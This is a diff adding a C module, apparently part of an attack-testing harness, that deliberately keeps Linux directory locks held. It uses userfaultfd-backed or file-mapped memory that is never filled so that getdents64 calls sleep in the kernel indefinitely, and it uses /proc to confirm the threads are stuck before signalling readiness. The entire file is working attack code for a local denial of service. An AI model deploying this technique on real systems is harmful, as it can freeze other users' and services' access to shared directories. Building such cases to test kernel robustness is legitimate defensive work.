@@ -1,0 +1,98 @@
+// held-listing MEMORY DIRECTORY...: lists each directory into memory that does not come, so that the kernel keeps the lock of the directory, or of a page of
+// its cached listing, for as long as this program lives. MEMORY: a file whose filesystem does not give its pages, or "userfaultfd".
+#include "attacker.h"
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/userfaultfd.h>
+#include <pthread.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ioctl.h>
+#include <sys/mman.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+
+enum { PAGE = 4096, SMALL = 32768 };
+
+struct lister {
+    int directory;
+    char *memory;
+    pid_t thread;
+};
+
+static void *hold(void *data) {
+    struct lister *lister = data;
+    __atomic_store_n(&lister->thread, gettid(), __ATOMIC_RELEASE);
+    ssize_t count = getdents64(lister->directory, lister->memory, PAGE);
+    printf("%zd %s\n", count, count < 0 ? strerror(errno) : "");
+    fflush(stdout);
+    return NULL;
+}
+
+// Whether a thread is in getdents64(2) and sleeps there.
+static int is_held(pid_t thread) {
+    char path[64], text[512];
+    snprintf(path, sizeof path, "/proc/self/task/%d/syscall", thread);
+    int fd = open(path, O_RDONLY | O_CLOEXEC);
+    ssize_t count = fd < 0 ? -1 : read(fd, text, sizeof text - 1);
+    if (fd >= 0) close(fd);
+    if (count <= 0) return 0;
+    text[count] = 0;
+    return strcmp(text, "running\n") != 0 && atol(text) == SYS_getdents64;
+}
+
+// Memory of which nobody ever fills a page: userfaultfd(2).
+static char *unfilled(size_t size) {
+    int device = open("/dev/userfaultfd", O_RDWR | O_CLOEXEC);
+    int fd = device < 0 ? -1 : ioctl(device, USERFAULTFD_IOC_NEW, O_CLOEXEC);
+    if (fd < 0) attack_failed("/dev/userfaultfd");
+    struct uffdio_api api = {.api = UFFD_API};
+    if (ioctl(fd, UFFDIO_API, &api)) attack_failed("UFFDIO_API");
+    char *memory = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+    struct uffdio_register range = {.range = {(uintptr_t)memory, size}, .mode = UFFDIO_REGISTER_MODE_MISSING};
+    if (memory == MAP_FAILED || ioctl(fd, UFFDIO_REGISTER, &range)) attack_failed("UFFDIO_REGISTER");
+    return memory;
+}
+
+static char *of_file(const char *path, size_t size) {
+    int file = open(path, O_RDWR | O_CLOEXEC);
+    if (file < 0) attack_failed(path);
+    char *memory = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE, file, 0);
+    if (memory == MAP_FAILED) attack_failed("mmap");
+    return memory;
+}
+
+int attack_held_listing(int count, char **arguments) {
+    if (count < 2) return 2;
+    int directories = count - 1;
+    size_t size = (size_t)directories * PAGE;
+    char *memory = strcmp(arguments[0], "userfaultfd") ? of_file(arguments[0], size) : unfilled(size);
+    struct lister *listers = calloc((size_t)directories, sizeof *listers);
+    char *small = malloc(SMALL);
+    for (int i = 0; i < directories; i++) {
+        // What is listed twice is answered from the kernel's cache, where it keeps one.
+        for (int turn = 0; turn < 2; turn++) {
+            int fd = open(arguments[i + 1], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+            if (fd < 0) attack_failed(arguments[i + 1]);
+            while (getdents64(fd, small, SMALL) > 0) {}
+            close(fd);
+        }
+        listers[i].directory = open(arguments[i + 1], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+        listers[i].memory = memory + (size_t)i * PAGE;
+    }
+    for (int i = 0; i < directories; i++) {
+        pthread_t thread;
+        if ((errno = pthread_create(&thread, NULL, hold, &listers[i]))) attack_failed("pthread_create");
+    }
+    for (int i = 0; i < directories; i++) {
+        pid_t thread;
+        while (!(thread = __atomic_load_n(&listers[i].thread, __ATOMIC_ACQUIRE)) || !is_held(thread)) usleep(1000);
+    }
+    attack_ready();
+    while (attack_wait()) {}
+    // The threads may never come back; the end of the process ends what they wait for.
+    _exit(0);
+}
